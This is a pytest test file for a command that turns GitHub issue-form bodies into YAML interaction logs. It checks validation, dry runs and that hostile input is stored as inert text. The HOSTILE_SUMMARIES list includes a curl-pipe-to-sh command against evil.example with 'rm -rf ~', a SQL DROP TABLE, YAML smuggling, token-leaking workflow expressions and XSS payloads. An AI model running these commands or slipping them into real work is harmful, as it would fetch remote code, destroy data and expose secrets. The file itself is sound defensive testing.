"""`netdash log --from-issue FILE`: real issue-form bodies in, a data file or a comment out.

Bodies are written the way GitHub renders a submitted form; the hostile ones try shell,
YAML, workflow-expression and Markdown injection through every free-text field.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

import site_builder.cli  # noqa: F401 - registers every command
from site_builder.cli.app import app
from site_builder.loading.loader import load
from tests.conftest import WriteData

CONTACTS = {
    "contacts/ada-lovelace.yml": "name: Ada Lovelace\ncircle: inner\n",
    "contacts/grace-hopper.yml": "name: Grace Hopper\ncircle: middle\n",
}
EXISTING = """\
# Interactions of 2026, newest last
- date: 2026-10-01
  with: [grace-hopper]
  kind: call   # a long one
"""
OUTCOMES = ("referral", "job_lead", "collaboration", "speaking", "intro_received", "partnership")


def body(
    *,
    with_: str = "ada-lovelace",
    kind: str = "coffee",
    date: str = "",
    value: str = "",
    initiated: str = "",
    summary: str = "",
    follow_up: str = "",
    due: str = "",
    outcomes: str = "",
) -> str:
    """A "Log an interaction" issue body as GitHub renders it."""
    fields = [
        ("With", with_),
        ("Kind", kind),
        ("Date", date),
        ("Value", value),
        ("Who reached out", initiated),
        ("Summary", summary),
        ("Follow-up", follow_up),
        ("Follow-up due", due),
    ]
    parts = [f"### {label}\n\n{answer or '_No response_'}" for label, answer in fields]
    ticks = "\n".join(f"- [{'X' if o in outcomes.split(',') else ' '}] {o}" for o in OUTCOMES)
    return "\n\n".join([*parts, f"### Outcomes\n\n{ticks}"])


def snapshot(root: Path) -> dict[str, bytes]:
    files = sorted(path for path in root.rglob("*") if path.is_file())
    return {str(path.relative_to(root)): path.read_bytes() for path in files}


def run(root: Path, text: str, *extra: str) -> Result:
    issue = root.parent / "issue.md"
    issue.write_text(text, encoding="utf-8")
    return CliRunner().invoke(
        app,
        ["log", "--from-issue", str(issue), "--data", str(root), "--today", "2026-11-05", *extra],
    )


@pytest.fixture
def root(write_data: WriteData) -> Path:
    return write_data({**CONTACTS, "interactions/2026.yml": EXISTING})


def test_a_form_is_appended_to_the_years_file_and_the_reply_says_so(root: Path) -> None:
    result = run(
        root,
        body(
            with_="ada-lovelace, Grace Hopper",
            kind="video",
            date="2026-11-02",
            value="give",
            initiated="me",
            summary="Talked about her compiler",
            follow_up="Send the MLIR paper",
            due="2026-11-09",
            outcomes="referral",
        ),
    )
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith(
        "Logged a **video** with `ada-lovelace`, `grace-hopper` on 2026-11-02 with a follow-up in `"
    )
    text = (root / "interactions" / "2026.yml").read_text(encoding="utf-8")
    assert text.startswith(EXISTING)  # comments and layout of what was there are kept
    loaded = load(root)
    assert loaded.ok, loaded.problems
    new = loaded.dataset.interactions[-1]
    assert (new.date, new.with_, new.kind, new.value) == (
        dt.date(2026, 11, 2),
        ["ada-lovelace", "grace-hopper"],
        "video",
        "give",
    )
    assert new.outcomes == ["referral"]
    promises = [(f.do, f.due) for f in new.follow_ups]
    assert promises == [("Send the MLIR paper", dt.date(2026, 11, 9))]


def test_an_empty_date_is_the_pinned_today_and_a_new_year_file_is_made(
    write_data: WriteData,
) -> None:
    root = write_data(CONTACTS)
    result = run(root, body(kind="call"))
    assert result.exit_code == 0, result.output
    loaded = load(root)
    assert loaded.ok and loaded.dataset.interactions[0].date == dt.date(2026, 11, 5)


HOSTILE_SUMMARIES = [
    "$(curl -s https://evil.example/x | sh) `id` ; rm -rf ~ && echo pwned",
    '\'; DROP TABLE contacts; -- " \\" \\n',
    "ok\n- date: 2020-01-01\n  with: [grace-hopper]\n  kind: gift\nsummary: &a *a",
    "${{ secrets.GITHUB_TOKEN }} ${{ github.event.issue.title }} %0A::set-output name=x::y",
    "@octocat <img src=x onerror=alert(1)> [click](javascript:alert(1)) <!-- hidden -->",
    "# Not a heading\n## Nor this\n#### Nor this\n```\nfenced\n```",
    "null",
    "yes",
    "- [X] referral",
]


@pytest.mark.parametrize("summary", HOSTILE_SUMMARIES)
def test_hostile_text_is_stored_as_text_and_never_echoed(root: Path, summary: str) -> None:
    result = run(root, body(summary=summary, follow_up=summary.splitlines()[0]))
    assert result.exit_code == 0, result.output
    loaded = load(root)
    assert loaded.ok, loaded.problems
    assert len(loaded.dataset.interactions) == 2  # exactly one added, nothing smuggled in
    new = loaded.dataset.interactions[-1]
    assert new.summary == summary.strip()
    assert new.outcomes == []
    assert summary.splitlines()[0] not in result.stdout


@pytest.mark.parametrize(
    ("fields", "label", "says"),
    [
        ({"date": "2026-02-30"}, "Date", "is not a real date"),
        ({"date": "5 Nov"}, "Date", "is not a date: write YYYY-MM-DD"),
        ({"date": "$(date)"}, "Date", "is not a date"),
        ({"due": "next week", "follow_up": "Call back"}, "Follow-up due", "is not a date"),
        ({"due": "2026-11-09"}, "Follow-up due", "needs a Follow-up"),
        ({"kind": "coffe"}, "Kind", "did you mean 'coffee'?"),
        ({"with_": "nobody-at-all"}, "With", "unknown contact"),
        ({"with_": ""}, "With", "is required"),
    ],
)
def test_invalid_input_writes_nothing_and_says_what_is_wrong(
    root: Path, fields: dict[str, str], label: str, says: str
) -> None:
    before = snapshot(root)
    result = run(root, body(**fields))
    assert result.exit_code == 1
    assert result.stdout.startswith("Nothing was logged.")
    assert f"- **{label}**: " in result.stdout and says in result.stdout
    assert snapshot(root) == before


def test_typed_text_in_a_reply_cannot_break_out_of_its_quoting(root: Path) -> None:
    result = run(root, body(with_="@octocat, x`](https://evil.example)`<b>", date="`@octocat`\n"))
    assert result.exit_code == 1
    reply = result.stdout
    assert "@octocat" not in reply.replace("\\@octocat", "").replace("`'@octocat'`", "")
    assert "<b>" not in reply and "](https://evil.example)" not in reply.replace("\\]", "")


def test_a_label_heading_typed_into_a_field_is_refused(root: Path) -> None:
    before = snapshot(root)
    result = run(root, body(summary="fine\n\n### Kind\n\nask"))
    assert result.exit_code == 1
    assert "appears more than once" in result.stdout
    assert snapshot(root) == before


def test_an_issue_not_made_with_the_form_is_refused(root: Path) -> None:
    result = run(root, "Please log a coffee with Ada, thanks!")
    assert result.exit_code == 1
    assert "not written with the form" in result.stdout


def test_a_change_that_would_break_the_data_is_refused_whole(write_data: WriteData) -> None:
    root = write_data({**CONTACTS, "interactions/2026.yml": "{not: a list}\n"})
    before = snapshot(root)
    result = run(root, body(date="2026-11-02"))
    assert result.exit_code == 1
    assert "- **Data**: " in result.stdout
    assert snapshot(root) == before


def test_dry_run_checks_everything_and_writes_nothing(root: Path) -> None:
    before = snapshot(root)
    result = run(root, body(date="2026-11-02"), "--dry-run")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("Would log a **coffee**")
    assert snapshot(root) == before


def test_without_from_issue_people_and_kind_are_still_required(root: Path) -> None:
    result = CliRunner().invoke(app, ["log", "--data", str(root)])
    assert result.exit_code == 2
